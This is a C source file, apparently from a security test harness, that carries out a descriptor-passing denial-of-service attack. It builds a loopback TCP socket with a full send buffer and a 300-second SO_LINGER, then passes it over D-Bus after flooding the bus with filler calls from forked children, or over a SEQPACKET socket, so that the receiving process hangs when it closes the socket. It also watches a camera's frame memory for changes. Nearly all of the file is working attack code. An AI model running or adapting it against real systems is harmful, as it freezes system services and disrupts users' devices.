/* Sends descriptors that hang the process that closes them, and watches the memory of a camera's frames.

   hang watch           captures from the camera; prints again and again whether the memory of its frames changed, and
                        since when: the time of the look before
   hang bus NAME        calls NAME, which need not exist, with a TCP socket that takes 300 s to close
   hang socket PATH     sends the same to the SOCK_SEQPACKET socket at PATH
   The line `sent` says that the attack is under way; it lasts until this program ends. */
#include "attack.h"
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <inttypes.h>
#include <netinet/in.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <time.h>
#include <unistd.h>

static int64_t now(void) {
    struct timespec time;
    clock_gettime(CLOCK_MONOTONIC, &time);
    return time.tv_sec * INT64_C(1000) + time.tv_nsec / 1000000;
}

/* FNV-1a over words: changes with any byte. */
static uint64_t digest(const uint64_t *words, size_t count) {
    uint64_t sum = 0xcbf29ce484222325u;
    for (size_t at = 0; at < count; at++) sum = (sum ^ words[at]) * 0x100000001b3u;
    return sum;
}

static void watch(sd_bus *bus) {
    int file = capture_memory(bus);
    struct stat status;
    if (file < 0 || fstat(file, &status) < 0) give_up("the camera's memory");
    const uint64_t *memory = mmap(NULL, (size_t)status.st_size, PROT_READ, MAP_SHARED, file, 0);
    if (memory == MAP_FAILED) give_up("the camera's memory");
    size_t count = (size_t)status.st_size / sizeof *memory;
    int64_t looked = now();
    uint64_t before = digest(memory, count);
    for (;;) {
        /* Four times as long as a look takes, so that others have the processor. */
        int64_t rest = 4 * (now() - looked);
        poll(NULL, 0, rest < 5 ? 5 : rest > 20 ? 20 : (int)rest);
        int64_t began = now();
        uint64_t sum = digest(memory, count);
        /* What this look sees and the one before did not see may be as old as that one. */
        printf("%s %" PRId64 "\n", sum == before ? "same" : "changed", looked);
        fflush(stdout);
        before = sum;
        looked = began;
    }
}

/* A socket whose last close waits for a peer that never reads. */
static int lingering(void) {
    struct sockaddr_in address = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
    socklen_t length = sizeof address;
    int small = 4096;
    int listening = socket(AF_INET, SOCK_STREAM, 0), end = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
    if (listening < 0 || end < 0 || setsockopt(listening, SOL_SOCKET, SO_RCVBUF, &small, sizeof small) < 0 ||
        bind(listening, (struct sockaddr *)&address, sizeof address) < 0 || listen(listening, 1) < 0 ||
        getsockname(listening, (struct sockaddr *)&address, &length) < 0)
        give_up("a listening socket");
    if (connect(end, (struct sockaddr *)&address, sizeof address) < 0 && errno != EINPROGRESS) give_up("connect");
    int peer = accept(listening, NULL, NULL);
    if (peer < 0) give_up("accept");
    static const char block[65536];
    struct pollfd ready = {.fd = end, .events = POLLOUT};
    for (int full = 0; full < 3;) {
        if (send(end, block, sizeof block, MSG_NOSIGNAL) < 0) {
            if (errno != EAGAIN) give_up("send");
            full++;
            poll(&ready, 1, 50);
        }
    }
    struct linger linger = {.l_onoff = 1, .l_linger = 300};
    if (setsockopt(end, SOL_SOCKET, SO_LINGER, &linger, sizeof linger) < 0) give_up("SO_LINGER");
    /* Only a blocking socket lingers. */
    if (fcntl(end, F_SETFL, 0) < 0) give_up("a blocking socket");
    return end;
}

/* Calls that the bus answers itself, and nobody wants the answers. */
static int keep_busy(sd_bus *bus, int count) {
    int code = 0;
    for (int number = 0; code >= 0 && number < count; number++) {
        sd_bus_message *call = NULL;
        code = sd_bus_message_new_method_call(bus, &call, "org.freedesktop.DBus", "/", "org.freedesktop.DBus", "GetId");
        if (code >= 0) code = sd_bus_message_set_expect_reply(call, 0);
        if (code >= 0) code = sd_bus_send(bus, call, NULL);
        sd_bus_message_unref(call);
    }
    return code;
}

static void send_by_bus(const char *name) {
    sd_bus *bus = connect_bus();
    sd_bus_message *call = NULL;
    int end = lingering();
    /* The bus has these before it comes to the descriptor, of which we have closed our copies by then. */
    int code = keep_busy(bus, 400);
    if (code >= 0) code = sd_bus_message_new_method_call(bus, &call, name, ROOT, SERVICE ".Manager", "ListDevices");
    if (code >= 0) code = sd_bus_message_append(call, "h", end);
    if (code >= 0) code = sd_bus_send(bus, call, NULL);
    /* The message has a copy of its own. Once ours are closed, the one in flight is the last. */
    close(end);
    if (code >= 0) code = sd_bus_flush(bus);
    sd_bus_message_unref(call);
    if (code < 0) {
        errno = -code;
        give_up("a call with a descriptor");
    }
}

static void sent(void) {
    puts("sent");
    fflush(stdout);
}

static void send_by_socket(const char *path) {
    struct sockaddr_un address = {.sun_family = AF_UNIX};
    if (strlen(path) >= sizeof address.sun_path) give_up(path);
    strcpy(address.sun_path, path);
    int end = socket(AF_UNIX, SOCK_SEQPACKET, 0);
    if (end < 0 || connect(end, (struct sockaddr *)&address, sizeof address) < 0) give_up(path);
    int lingers = lingering();
    send_descriptor(end, lingers);
    /* If the receiver is gone, this is the last close, and it may hang. */
    sent();
    close(lingers);
}

int main(int count, char **words) {
    signal(SIGPIPE, SIG_IGN);
    if (count == 2 && !strcmp(words[1], "watch")) watch(connect_bus());
    if (count != 3) return not_tried;
    if (!strcmp(words[1], "bus")) {
        /* One whose copy outlives the bus's hangs itself instead of the bus. */
        for (int tries = 0; tries < 8; tries++)
            if (fork() == 0) {
                send_by_bus(words[2]);
                for (;;) pause();
            }
        sent();
    } else {
        send_by_socket(words[2]);
    }
    for (;;) pause();
}
